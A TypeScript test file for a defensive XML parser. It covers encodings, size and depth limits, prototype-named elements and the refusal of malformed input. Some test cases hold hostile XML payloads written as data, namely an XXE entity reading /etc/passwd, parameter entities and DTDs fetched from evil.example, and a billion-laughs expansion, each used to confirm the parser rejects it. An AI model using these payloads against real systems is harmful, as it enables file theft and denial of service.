import { expect, test } from 'vitest';
import { childOf, childrenOf, readXml, textOf, XmlRefused } from './index.ts';

const bytes = (text: string) => Buffer.from(text);

test('elements, attributes, text and CDATA become a plain tree', () => {
  const root = readXml(
    bytes(`<?xml version="1.0" encoding="UTF-8"?>
    <result status="OK"><!-- nothing --><items><client><name><![CDATA[Smith & <Sons>]]></name><id> 7 </id></client><client/></items></result>`),
  );
  expect(root.attributes['status']).toBe('OK');
  const items = childOf(root, 'items');
  const clients = items ? childrenOf(items, 'client') : [];
  expect(clients.map((client) => [textOf(client, 'name'), textOf(client, 'id')])).toEqual([
    ['Smith & <Sons>', '7'],
    [null, null],
  ]);
});

test('entities of XML itself and numbered characters are read', () => {
  expect(readXml(bytes('<a b="&quot;1&quot;">&lt;&#233;&#x1F600;&gt;</a>'))).toMatchObject({
    attributes: { b: '"1"' },
    text: '<é😀>',
  });
});

test.each([
  ['UTF-8 without a declaration', Buffer.from('<a>é</a>')],
  ['UTF-8 with a mark', Buffer.from('\ufeff<?xml version="1.0"?><a>é</a>')],
  ['Latin-1', Buffer.from('<?xml version="1.0" encoding="ISO-8859-1"?><a>é</a>', 'latin1')],
  ['Windows', Buffer.from("<?xml version='1.0' encoding='windows-1252'?><a>é</a>", 'latin1')],
  ['UTF-16 with a mark', Buffer.from('\ufeff<?xml version="1.0" encoding="UTF-16"?><a>é</a>', 'utf16le')],
])('%s is decoded', (_, sent) => {
  expect(readXml(sent).text).toBe('é');
});

test('the euro that programs on Windows write as Latin-1 stays one', () => {
  const head = Buffer.from('<?xml version="1.0" encoding="ISO-8859-1"?><a>');
  expect(readXml(Buffer.concat([head, Buffer.from([0x80]), Buffer.from('</a>')])).text).toBe('€');
});

const LAUGHS = `<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>`;

test.each([
  ['an external entity', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'],
  ['a parameter entity', '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]><a/>'],
  ['entities that swell', LAUGHS],
  ['a document type that says nothing', '<!DOCTYPE a><a/>'],
  ['a document type from elsewhere', '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>'],
])('%s is refused', (_, text) => {
  expect(() => readXml(bytes(text))).toThrow(/document type/);
  expect(() => readXml(Buffer.from(`\ufeff${text}`, 'utf16le'))).toThrow(/document type/);
});

test.each([
  ['an entity that is not one of XML', '<a>&nbsp;</a>'],
  ['nothing', ''],
  ['blanks', '  \n'],
  ['no XML', '{"a":1}'],
  ['an element that does not end', '<a><b></a>'],
  ['two documents', '<a/><b/>'],
  ['a character that XML has not', '<a>&#0;</a>'],
  ['an attribute twice', '<a b="1" b="2"/>'],
  ['an encoding nobody writes', '<?xml version="1.0" encoding="UTF-7"?><a/>'],
  ['UTF-16 that is declared and not marked', '<?xml version="1.0" encoding="UTF-16"?><a/>'],
  ['UTF-16 that is not declared', '<\0a\0/\0>\0'],
])('%s is refused', (_, text) => {
  expect(() => readXml(bytes(text))).toThrow(XmlRefused);
});

test('bytes that are not of the encoding are refused', () => {
  expect(() => readXml(Buffer.from('<a>é</a>', 'latin1'))).toThrow('not written in utf-8');
});

test('size, depth and count are bounded', () => {
  expect(() => readXml(bytes(`<a>${'x'.repeat(100)}</a>`), { mostBytes: 50 })).toThrow('longer than 50 bytes');
  expect(() => readXml(bytes('<a>'.repeat(65) + '</a>'.repeat(65)))).toThrow('deeper than 64');
  expect(readXml(bytes('<a>'.repeat(64) + '</a>'.repeat(64))).name).toBe('a');
  expect(() => readXml(bytes(`<a>${'<b c="1"/>'.repeat(50)}</a>`), { mostParts: 100 })).toThrow('more than 100');
});

test('a name like one of every object is only a name', () => {
  const root = readXml(bytes('<__proto__ constructor="1" __proto__="2"/>'));
  expect([root.name, Object.entries(root.attributes)]).toEqual([
    '__proto__',
    [
      ['constructor', '1'],
      ['__proto__', '2'],
    ],
  ]);
  expect(readXml(bytes('<a/>')).attributes['toString']).toBeUndefined();
});

test('what is wrong is said without what stood there', () => {
  expect(() => readXml(bytes('<a>secret-word &oops; </a>'))).toThrow(/^it is not XML \(line 1, column \d+\)$/);
});
